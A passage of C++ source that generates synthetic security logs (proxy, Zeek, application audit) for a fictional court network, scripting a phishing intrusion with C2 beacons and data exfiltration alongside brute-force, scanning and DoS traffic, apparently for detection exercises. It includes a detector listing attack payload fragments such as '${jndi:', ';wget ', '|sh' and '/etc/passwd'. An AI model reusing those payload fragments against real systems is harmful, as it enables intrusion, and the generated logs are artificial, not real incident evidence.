        const Site& s = kSites[rng.below(static_cast<uint32_t>(kSites.size()))];
        lines.push_back({t, squid_line(t, rng.between(80, 90000), ip, "TCP_TUNNEL", 200,
                                       rng.between(2000, 900000), "CONNECT",
                                       std::string(s.host) + ":443", person.account, s.ip, "-")});
      } else {
        const Site& s = kPlainSites[rng.below(3)];
        std::string url = std::string("http://") + s.host + "/";
        add_hex(url, rng.next(), 12, false);
        url += rng.percent(50) ? ".crl" : ".cab";
        const bool hit = rng.percent(40);
        lines.push_back({t, squid_line(t, rng.between(5, 900), ip, hit ? "TCP_MEM_HIT" : "TCP_MISS",
                                       200, rng.between(500, 80000), "GET", url, person.account,
                                       s.ip, "application/octet-stream")});
      }
    }
  }
}

void proxy_story(const World& w, int day, std::vector<Line>& lines) {
  const Intrusion& in = w.intrusion;
  const Person& victim = w.people[static_cast<size_t>(w.victim)];
  const std::string& ip = w.workstations[static_cast<size_t>(victim.workstation)].ip;
  Rng rng(derive_seed(w.seed, "proxy-story"));
  const Timestamp download = plus(in.phish, 41 * kSecond);
  if (day_of(download) == day) {
    lines.push_back({download, squid_line(download, 2140, ip, "TCP_TUNNEL", 200, 412871, "CONNECT",
                                          in.c2_host + ":443", victim.account, in.c2_ip, "-")});
  }
  for (Timestamp b : in.beacons) {
    if (day_of(b) != day) continue;
    lines.push_back(
        {b, squid_line(b, rng.between(300, 2500), ip, "TCP_TUNNEL", 200, rng.between(900, 6000),
                       "CONNECT", in.c2_host + ":443", victim.account, in.c2_ip, "-")});
  }
  if (day_of(in.exfiltration) == day) {
    const Timestamp t =
        plus(in.exfiltration, 7 * kMinute + 12 * kSecond);  // logged when the tunnel closes
    lines.push_back(
        {t, squid_line(t, 432117, ip, "TCP_TUNNEL", 200, in.archive_bytes + 6143, "CONNECT",
                       in.exfil_host + ":443", victim.account, in.exfil_ip, "-")});
  }
}

struct Conn {
  Timestamp time;
  std::string orig;
  uint32_t orig_port;
  std::string resp;
  uint32_t resp_port;
  const char* proto = "tcp";
  const char* service = "-";
  double duration = 0;
  uint64_t orig_bytes = 0, resp_bytes = 0;
  const char* state = "SF";
  const char* history = "ShADadFf";
  bool local_orig = false;
};

std::string uid_text(Rng& rng) {
  static constexpr char kChars[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
  std::string out = "C";
  for (int i = 0; i < 17; ++i) out += kChars[rng.below(62)];
  return out;
}

std::string conn_line(Rng& rng, const Conn& c) {
  std::string out = unix_time(c.time, 6) + "\t" + uid_text(rng) + "\t" + c.orig + "\t" +
                    std::to_string(c.orig_port) + "\t" + c.resp + "\t" +
                    std::to_string(c.resp_port) + "\t" + c.proto + "\t" + c.service + "\t";
  const bool failed = std::string_view(c.state) != "SF" && std::string_view(c.state) != "S1";
  if (failed) {
    out += "-\t-\t-\t";
  } else {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%.6f", c.duration);
    out += std::string(buf) + "\t" + std::to_string(c.orig_bytes) + "\t" +
           std::to_string(c.resp_bytes) + "\t";
  }
  const uint64_t opkts = failed ? 1 : 4 + c.orig_bytes / 1400;
  const uint64_t rpkts =
      failed ? (std::string_view(c.state) == "REJ" ? 1 : 0) : 3 + c.resp_bytes / 1400;
  out += std::string(c.state) + "\t" + (c.local_orig ? "T" : "F") + "\t" +
         (c.local_orig ? "F" : "T") + "\t0\t" + c.history + "\t" + std::to_string(opkts) + "\t" +
         std::to_string(opkts * 52 + c.orig_bytes) + "\t" + std::to_string(rpkts) + "\t" +
         std::to_string(rpkts * 52 + c.resp_bytes) + "\t-";
  return out;
}

void conn_day(const World& w, int day, Rng& rng, std::vector<Conn>& out) {
  // Visitors of the public site (one connection per visit), partners' SFTP, staff's RDP.
  for (const Visit& visit : visits(w, day)) {
    Conn c;
    c.time = visit.start;
    c.orig = visit.ip;
    c.orig_port = rng.between(32768, 65000);
    c.resp = "2001:db8:c0de::10";
    c.resp_port = 443;
    c.service = "ssl";
    c.duration = rng.between(1, 600) + rng.below(1000) / 1000.0;
    c.orig_bytes = rng.between(900, 9000);
    c.resp_bytes = rng.between(20000, 900000);
    out.push_back(c);
  }
  for (int m = 0; m < 24 * 12; ++m) {
    Conn c;
    c.time = plus(day_start(day), m * 5 * kMinute + 7 * kSecond);
    c.orig = "192.0.2.10";
    c.orig_port = rng.between(32768, 65000);
    c.resp = w.web_public_ip;
    c.resp_port = 443;
    c.service = "ssl";
    c.duration = 0.08;
    c.orig_bytes = 517;
    c.resp_bytes = 3120;
    out.push_back(c);
  }
  // Outbound through the proxy's address: inert, grows with the scale.
  for (uint32_t i = 0; i < 300 * w.scale; ++i) {
    if (is_weekend(day) && rng.percent(80)) continue;
    const Site& s = kSites[rng.below(static_cast<uint32_t>(kSites.size()))];
    Conn c;
    c.time = random_in(rng, plus(day_start(day), 7 * kHour), plus(day_start(day), 19 * kHour));
    c.orig = "2001:db8:c0de::40";
    c.orig_port = rng.between(32768, 65000);
    c.resp = s.ip;
    c.resp_port = 443;
    c.service = "ssl";
    c.duration = rng.between(0, 300) + rng.below(1000) / 1000.0;
    c.orig_bytes = rng.between(600, 40000);
    c.resp_bytes = rng.between(2000, 900000);
    c.local_orig = true;
    out.push_back(c);
  }
  for (size_t k = 0; k < w.partner_sftp_accounts.size(); ++k) {
    if (is_weekend(day)) continue;
    Conn c;
    c.time = plus(day_start(day), 8 * kHour + rng.below(9 * 3600) * kSecond);
    c.orig = "198.51.100." + std::to_string(60 + k);
    c.orig_port = rng.between(32768, 65000);
    c.resp = w.sftp_public_ip;
    c.resp_port = 22;
    c.service = "ssh";
    c.duration = rng.between(20, 400);
    c.orig_bytes = rng.between(20000, 9000000);
    c.resp_bytes = rng.between(4000, 40000);
    out.push_back(c);
  }
}

void conn_attacks(const World& w, int day, std::vector<Conn>& out) {
  for (const Attack& a : w.attacks) {
    if (a.day != day) continue;
    Rng rng(a.seed ^ 0x5a5a5a5aULL);
    Conn c;
    c.orig = a.source;
    c.time = a.start;
    switch (a.kind) {
      case AttackKind::kSshBruteForce:
      case AttackKind::kSshSpray:
        for (uint32_t i = 0; i < a.count; i += 4) {
          c.orig_port = rng.between(32768, 60999);
          c.resp = w.sftp_public_ip;
          c.resp_port = 22;
          c.service = "ssh";
          c.duration = 12 + rng.below(10);
          c.orig_bytes = 2400;
          c.resp_bytes = 2900;
          out.push_back(c);
          c.time = plus(c.time, 18 * kSecond);
        }
        break;
      case AttackKind::kRdpBruteForce:
      case AttackKind::kRdpSpray:
        for (uint32_t i = 0; i < a.count; ++i) {
          c.orig_port = rng.between(32768, 60999);
          c.resp = w.rds_public_ip;
          c.resp_port = 3389;
          c.service = "rdp,ssl";
          c.duration = 1.5;
          c.orig_bytes = 3100;
          c.resp_bytes = 4200;
          out.push_back(c);
          c.time = plus(c.time, 5 * kSecond);
        }
        break;
      case AttackKind::kWebScanner:
      case AttackKind::kWeb404Sweep:
      case AttackKind::kWebExploit:
        for (uint32_t i = 0; i < a.count; i += 20) {
          c.orig_port = rng.between(32768, 60999);
          c.resp = w.web_public_ip;
          c.resp_port = 443;
          c.service = "ssl";
          c.duration = 20;
          c.orig_bytes = 9000;
          c.resp_bytes = 30000;
          out.push_back(c);
          c.time = plus(c.time, 20 * kSecond);
        }
        break;
      case AttackKind::kDenialOfService:
        for (uint32_t i = 0; i < a.count * 10; ++i) {
          c.orig_port = rng.between(32768, 60999);
          c.resp = w.web_public_ip;
          c.resp_port = 443;
          c.service = "ssl";
          c.duration = 6;
          c.orig_bytes = 60000;
          c.resp_bytes = 900000;
          out.push_back(c);
          c.time = plus(c.time, 6 * kSecond);
        }
        break;
      case AttackKind::kPortSweep: {
        // Either many ports of one address or one port across the public range.
        const bool ports = rng.percent(70);
        const std::array<const std::string*, 4> targets = {&w.web_public_ip, &w.sftp_public_ip,
                                                           &w.rds_public_ip, &w.proxy_public_ip};
        const std::string& target = *targets[rng.below(4)];
        const uint32_t port = rng.percent(50) ? 445 : 23;
        for (uint32_t i = 0; i < a.count; ++i) {
          c.orig_port = rng.between(32768, 60999);
          if (ports) {
            c.resp = target;
            c.resp_port = 1 + (i * 37 + rng.below(37)) % 65535;
          } else {
            c.resp = "198.51.100." + std::to_string(1 + i % 254);
            c.resp_port = port;
          }
          c.service = "-";
          const bool rejected = rng.percent(30);
          c.state = rejected ? "REJ" : "S0";
          c.history = rejected ? "Sr" : "S";
          out.push_back(c);
          c.time = plus(c.time, rng.between(1, 200) * 10000);
        }
        break;
      }
    }
  }
}

void conn_story(const World& w, int day, std::vector<Conn>& out) {
  const Intrusion& in = w.intrusion;
  Rng rng(derive_seed(w.seed, "conn-story"));
  auto add = [&](Timestamp t, const std::string& ip, double duration, uint64_t up, uint64_t down) {
    if (day_of(t) != day) return;
    Conn c;
    c.time = t;
    c.orig = w.proxy_public_ip;
    c.orig_port = rng.between(32768, 60999);
    c.resp = ip;
    c.resp_port = 443;
    c.service = "ssl";
    c.duration = duration;
    c.orig_bytes = up;
    c.resp_bytes = down;
    c.local_orig = true;
    out.push_back(c);
  };
  add(plus(in.phish, 42 * kSecond), in.c2_ip, 2.1, 1800, 412871);
  for (Timestamp b : in.beacons)
    add(plus(b, kSecond / 2), in.c2_ip, 0.9, rng.between(700, 3000), rng.between(900, 6000));
  add(plus(in.exfiltration, 2 * kSecond), in.exfil_ip, 432.1, in.archive_bytes + 51200, 6143);
}

constexpr const char* kConnHeader =
    "#separator "
    "\\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n#open\t2026-10-"
    "01-00-00-00\n"
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_"
    "bytes\tresp_bytes\t"
    "conn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_"
    "pkts\tresp_ip_bytes\t"
    "tunnel_parents\n"
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbo"
    "ol\tbool\tcount\t"
    "string\tcount\tcount\tcount\tcount\tset[string]\n";

constexpr const char* kDnsHeader =
    "#separator "
    "\\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n#open\t2026-10-"
    "01-00-00-00\n"
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_"
    "id\trtt\tquery\tqclass\tqclass_name\t"
    "qtype\tqtype_name\trcode\trcode_name\tAA\tTC\tRD\tRA\tZ\tanswers\tTTLs\trejected\n"
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tinterval\tstring\tcount\tstring\tco"
    "unt\tstring\tcount\t"
    "string\tbool\tbool\tbool\tbool\tcount\tvector[string]\tvector[interval]\tbool\n";

constexpr const char* kHttpHeader =
    "#separator "
    "\\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\thttp\n#open\t2026-10-"
    "01-00-00-00\n"
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_"
    "depth\tmethod\thost\turi\treferrer\tversion\t"
    "user_agent\torigin\trequest_body_len\tresponse_body_len\tstatus_code\tstatus_msg\tinfo_"
    "code\tinfo_msg\ttags\t"
    "username\tpassword\tproxied\torig_fuids\torig_filenames\torig_mime_types\tresp_fuids\tresp_"
    "filenames\tresp_mime_types\n"
    "#types\ttime\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tstring\tstring\ts"
    "tring\tstring\tcount\t"
    "count\tcount\tstring\tcount\tstring\tset[enum]\tstring\tstring\tset[string]\tvector[string]"
    "\tvector[string]\t"
    "vector[string]\tvector[string]\tvector[string]\tvector[string]\n";

std::string dns_line(Rng& rng, Timestamp t, const std::string& query, const char* qtype,
                     uint32_t qcode, const std::string& answer) {
  return unix_time(t, 6) + "\t" + uid_text(rng) + "\t198.51.100.53\t" +
         std::to_string(rng.between(1024, 65000)) + "\t192.0.2.53\t53\tudp\t" +
         std::to_string(rng.below(65536)) + "\t0.0" + std::to_string(rng.between(10, 99)) + "\t" +
         query + "\t1\tC_INTERNET\t" + std::to_string(qcode) + "\t" + qtype +
         "\t0\tNOERROR\tF\tF\tT\tT\t0\t" + answer + "\t300.000000\tF";
}

void dns_day(const World& w, int day, Rng& rng, std::vector<Line>& lines) {
  for (uint32_t i = 0; i < 200 * w.scale; ++i) {
    const Site& s = rng.percent(90) ? kSites[rng.below(static_cast<uint32_t>(kSites.size()))]
                                    : kPlainSites[rng.below(3)];
    const Timestamp t = random_in(rng, day_start(day), day_start(day + 1));
    lines.push_back({t, dns_line(rng, t, s.host, "AAAA", 28, s.ip)});
  }
  const Intrusion& in = w.intrusion;
  Rng story(derive_seed(w.seed, "dns-story"));
  // The proxy resolves the implant's domain about once an hour (TTL 300, cached).
  Timestamp last{0};
  const Timestamp first_query = plus(in.phish, 40 * kSecond);
  std::vector<Timestamp> queries = {first_query};
  for (Timestamp b : in.beacons) {
    if (b.ticks - last.ticks > kHour) {
      queries.push_back(plus(b, -kSecond / 10));
      last = b;
    }
  }
  for (Timestamp q : queries) {
    if (day_of(q) == day) lines.push_back({q, dns_line(story, q, in.c2_host, "A", 1, in.c2_ip)});
  }
  const Timestamp exfil = plus(in.exfiltration, kSecond);
  if (day_of(exfil) == day)
    lines.push_back({exfil, dns_line(story, exfil, in.exfil_host, "A", 1, in.exfil_ip)});
}

void http_day(const World& w, int day, Rng& rng, std::vector<Line>& lines) {
  for (uint32_t i = 0; i < 60 * w.scale; ++i) {
    if (is_weekend(day) && rng.percent(80)) continue;
    const Site& s = kPlainSites[rng.below(3)];
    const Timestamp t =
        random_in(rng, plus(day_start(day), 7 * kHour), plus(day_start(day), 19 * kHour));
    std::string uri = "/";
    add_hex(uri, rng.next(), 12, false);
    uri += rng.percent(50) ? ".crl" : ".cab";
    const bool not_modified = rng.percent(20);
    lines.push_back({t, unix_time(t, 6) + "\t" + uid_text(rng) + "\t2001:db8:c0de::40\t" +
                            std::to_string(rng.between(32768, 65000)) + "\t" + s.ip +
                            "\t80\t1\tGET\t" + s.host + "\t" + uri +
                            "\t-\t1.1\tMicrosoft-CryptoAPI/10.0\t-\t0\t" +
                            std::to_string(not_modified ? 0 : rng.between(500, 80000)) + "\t" +
                            (not_modified ? "304\tNot Modified" : "200\tOK") +
                            "\t-\t-\t(empty)\t-\t-\t-\t-\t-\t-\t-\t-\t-"});
  }
}

// --- The case-management application's audit trail ------------------------------------------

std::string json_escape(std::string_view text) {
  std::string out;
  for (char c : text) {
    if (c == '"' || c == '\\') out += '\\';
    out += c;
  }
  return out;
}

std::string trail_line(const World& w, Timestamp t, const Person& p, const char* action,
                       const std::string& object, uint64_t bytes, const std::string& case_id,
                       uint64_t session) {
  std::string out = "{\"timestamp\":\"" + iso_time(t) + "\",\"actor\":\"" + p.account +
                    "\",\"source_ip\":\"" + w.workstations[static_cast<size_t>(p.workstation)].ip +
                    "\",\"host\":\"" + w.cms.fqdn + "\",\"action\":\"" + action + "\"";
  if (!object.empty()) out += ",\"object\":\"" + json_escape(object) + "\"";
  if (bytes != 0) out += ",\"bytes\":" + std::to_string(bytes);
  out += ",\"outcome\":\"success\",\"session\":\"s-";
  add_hex(out, session, 10, false);
  out += "\"";
  if (!case_id.empty()) out += ",\"case\":\"" + case_id + "\"";
  out += "}";
  return out;
}

std::string object_path(const Case& c, Folder f, const Document& d) {
  return "/cases/" + c.id + "/" + folder_name(f) + "/" + d.name;
}

void trail_day(const World& w, int day, Rng& rng, std::vector<Line>& lines) {
  for (size_t p = 0; p < w.people.size(); ++p) {
    const Person& person = w.people[p];
    const auto folders = folders_of(person, w.cases.size());
    if (folders.empty() || is_weekend(day)) continue;
    Rng wd(derive_seed(w.seed, "workday/" + std::to_string(p) + "/" + std::to_string(day)));
    if (wd.percent(4)) continue;
    const Timestamp arrive =
        plus(day_start(day), 7 * kHour + 45 * kMinute + wd.below(90 * 60) * kSecond);
    const Timestamp leave =
        plus(day_start(day), 16 * kHour + 30 * kMinute + wd.below(150 * 60) * kSecond);
    const uint64_t session = rng.next() & 0xFFFFFFFFFFULL;
    const Timestamp login = plus(arrive, (3 + rng.below(10)) * kMinute);
    lines.push_back({login, trail_line(w, login, person, "login", "", 0, "", session)});
    for (uint32_t i = 0; i < 8 * w.scale; ++i) {
      const auto& [c, f] = folders[rng.below(static_cast<uint32_t>(folders.size()))];
      const Case& kase = w.cases[static_cast<size_t>(c)];
      const auto& docs = kase.documents[static_cast<int>(f)];
      const Document& d = docs[rng.below(static_cast<uint32_t>(docs.size()))];
      const Timestamp t = random_in(rng, plus(login, kMinute), leave);
      const uint32_t what = rng.below(10);
      if (what == 0) {
        lines.push_back(
            {t, trail_line(w, t, person, "search", "/cases/" + kase.id, 0, kase.id, session)});
      } else if (what == 1 && f == Folder::kFilings && person.role != Role::kTrainee) {
        lines.push_back({t, trail_line(w, t, person, "write", object_path(kase, f, d), d.bytes,
                                       kase.id, session)});
      } else {
        lines.push_back({t, trail_line(w, t, person, "read", object_path(kase, f, d), d.bytes,
                                       kase.id, session)});
      }
    }
    lines.push_back({leave, trail_line(w, leave, person, "logout", "", 0, "", session)});
  }
  const Person& trainee = w.people[static_cast<size_t>(w.trainee)];
  for (const TraineeRead& r : w.trainee_reads) {
    if (r.through_share || day_of(r.time) != day) continue;
    const Case& kase = w.cases[static_cast<size_t>(r.case_index)];
    const Document& d = kase.documents[static_cast<int>(r.folder)][static_cast<size_t>(r.document)];
    lines.push_back(
        {r.time, trail_line(w, r.time, trainee, "read", object_path(kase, r.folder, d), d.bytes,
                            kase.id, 0x7e5e000000ULL + static_cast<uint64_t>(day))});
  }
}

enum TextJob : int {
  kAuthSftp = kWindowsJobKinds,
  kAuthWeb,
  kAuthCms,
  kAuditCms,
  kAuditSftp,
  kWebAccess,
  kProxy,
  kZeekConn,
  kZeekDns,
  kZeekHttp,
  kTrail,
};

}  // namespace

std::vector<std::pair<int, Folder>> folders_of(const Person& p, size_t cases) {
  std::vector<std::pair<int, Folder>> out;
  switch (p.role) {
    case Role::kJudge:
    case Role::kLegalOfficer:
      for (int c : p.cases) {
        for (Folder f : {Folder::kFilings, Folder::kWitnesses, Folder::kVictims})
          out.emplace_back(c, f);
      }
      break;
    case Role::kRegistry:
      for (size_t c = 0; c < cases; ++c) out.emplace_back(static_cast<int>(c), Folder::kFilings);
      break;
    case Role::kWitnessProtection:
      for (size_t c = 0; c < cases; ++c) {
        out.emplace_back(static_cast<int>(c), Folder::kWitnesses);
        out.emplace_back(static_cast<int>(c), Folder::kVictims);
      }
      break;
    case Role::kTrainee:
      for (int c : p.cases) out.emplace_back(c, Folder::kFilings);
      break;
    default: break;
  }
  return out;
}

bool is_scanner_agent(std::string_view agent) {
  std::string lower(agent);
  for (char& c : lower) {
    if (c >= 'A' && c <= 'Z') c = static_cast<char>(c - 'A' + 'a');
  }
  for (const char* name : {"nikto", "sqlmap", "nmap", "masscan", "zgrab", "gobuster", "dirbuster",
                           "wpscan", "nuclei", "acunetix", "nessus"}) {
    if (lower.find(name) != std::string::npos) return true;
  }
  return false;
}

bool has_exploit_payload(std::string_view uri, std::string_view agent) {
  auto lower = [](std::string_view text) {
    std::string out(text);
    for (char& c : out) {
      if (c >= 'A' && c <= 'Z') c = static_cast<char>(c - 'A' + 'a');
    }
    return out;
  };
  auto decode = [](std::string_view text) {
    std::string out;
    for (size_t i = 0; i < text.size(); ++i) {
      auto hex = [](char c) {
        if (c >= '0' && c <= '9') return c - '0';
        if (c >= 'a' && c <= 'f') return c - 'a' + 10;
        if (c >= 'A' && c <= 'F') return c - 'A' + 10;
        return -1;
      };
      if (text[i] == '%' && i + 2 < text.size() && hex(text[i + 1]) >= 0 && hex(text[i + 2]) >= 0) {
        out += static_cast<char>(hex(text[i + 1]) * 16 + hex(text[i + 2]));
        i += 2;
      } else if (text[i] == '+') {
        out += ' ';
      } else {
        out += text[i];
      }
    }
    return out;
  };
  static constexpr std::array<const char*, 12> kPatterns = {
      "../",    "..\\",    "%2e%2e", "/etc/passwd", "union select", "' or '1'='1",
      "sleep(", "${jndi:", ";wget ", ";curl ",      "|sh",          "<script"};
  for (const std::string& text : {lower(uri), lower(decode(uri)), lower(agent)}) {
    for (const char* p : kPatterns) {
      if (text.find(p) != std::string::npos) return true;
    }
  }
  return false;
}

void text_jobs(const World& world, std::vector<FileJob>& jobs) {
  (void)world;
  jobs.push_back({"web/access.log", kWebAccess, 0});  // the largest first
  jobs.push_back({"linux/sftp01/auth.log", kAuthSftp, 0});
  jobs.push_back({"linux/web01/auth.log", kAuthWeb, 0});
  jobs.push_back({"linux/cms01/auth.log", kAuthCms, 0});
  jobs.push_back({"linux/cms01/audit.log", kAuditCms, 0});
  jobs.push_back({"linux/sftp01/audit.log", kAuditSftp, 0});
  jobs.push_back({"proxy/access.log", kProxy, 0});
  jobs.push_back({"zeek/conn.log", kZeekConn, 0});
  jobs.push_back({"zeek/dns.log", kZeekDns, 0});
  jobs.push_back({"zeek/http.log", kZeekHttp, 0});
  jobs.push_back({"app/cms-audit.jsonl", kTrail, 0});
}

FileResult run_text_job(const World& w, const FileJob& job, const std::string& out_dir) {
  FileResult result;
  result.path = job.path;
  const std::string path = (std::filesystem::path(out_dir) / job.path).string();
  std::FILE* file = std::fopen(path.c_str(), "wb");
  if (file == nullptr) {
    result.error = "cannot create the file";
    return result;
  }
  Writer out;
  out.file = file;
  out.result = &result;
  Rng rng(derive_seed(w.seed, job.path));
  std::vector<Line> lines;
  AuditSerial serial;
  switch (job.kind) {
    case kZeekConn: out.buffer += kConnHeader; break;
    case kZeekDns: out.buffer += kDnsHeader; break;
    case kZeekHttp: out.buffer += kHttpHeader; break;
    default: break;
  }
  for (int day = 0; day < kDays; ++day) {
    switch (job.kind) {
      case kAuthSftp: auth_log_day(w, w.sftp, day, rng, lines, result); break;
      case kAuthWeb: auth_log_day(w, w.web, day, rng, lines, result); break;
      case kAuthCms: auth_log_day(w, w.cms, day, rng, lines, result); break;
      case kAuditCms: audit_log_day(w, w.cms, day, rng, serial, lines); break;
      case kAuditSftp: audit_log_day(w, w.sftp, day, rng, serial, lines); break;
      case kWebAccess: {
        std::vector<WebRequest> requests;
        web_day(w, day, rng, requests);
        web_attacks(w, day, requests);
        count_web(requests, day, result.categories);
        for (const WebRequest& r : requests) lines.push_back({r.time, access_line(w, r)});
        break;
      }
      case kProxy:
        proxy_day(w, day, rng, lines);
        proxy_story(w, day, lines);
        break;
      case kZeekConn: {
        std::vector<Conn> conns;
        conn_day(w, day, rng, conns);
        conn_attacks(w, day, conns);
        conn_story(w, day, conns);
        // Scanning: failed connections from a source that failed towards 20
        // distinct ports or 20 distinct hosts that day.
        std::map<std::string, std::pair<std::set<uint32_t>, std::set<std::string>>> failed;
        auto is_failed = [](std::string_view s) {
          return s == "S0" || s == "REJ" || s == "RSTO" || s == "RSTOS0" || s == "RSTR" ||
                 s == "SH" || s == "OTH";
        };
        for (const Conn& c : conns) {
          if (!is_failed(c.state)) continue;
          failed[c.orig].first.insert(c.resp_port);
          failed[c.orig].second.insert(c.resp);
        }
        for (const Conn& c : conns) {
          if (!is_failed(c.state)) continue;
          const auto& f = failed[c.orig];
          if (f.first.size() >= 20 || f.second.size() >= 20)
            ++result.categories[{day, "scanning"}][c.orig];
        }
        for (const Conn& c : conns) lines.push_back({c.time, conn_line(rng, c)});
        break;
      }
      case kZeekDns: dns_day(w, day, rng, lines); break;
      case kZeekHttp: http_day(w, day, rng, lines); break;
      case kTrail: trail_day(w, day, rng, lines); break;
      default: break;
    }
    out.write_day(lines);
  }
  if (job.kind == kZeekConn || job.kind == kZeekDns || job.kind == kZeekHttp) {
    out.buffer += "#close\t2026-10-29-00-00-00\n";
  }
  out.flush();
  if (std::fclose(file) != 0 || out.failed) result.error = "write failed";
  return result;
}

}  // namespace vigil::synth::scenario
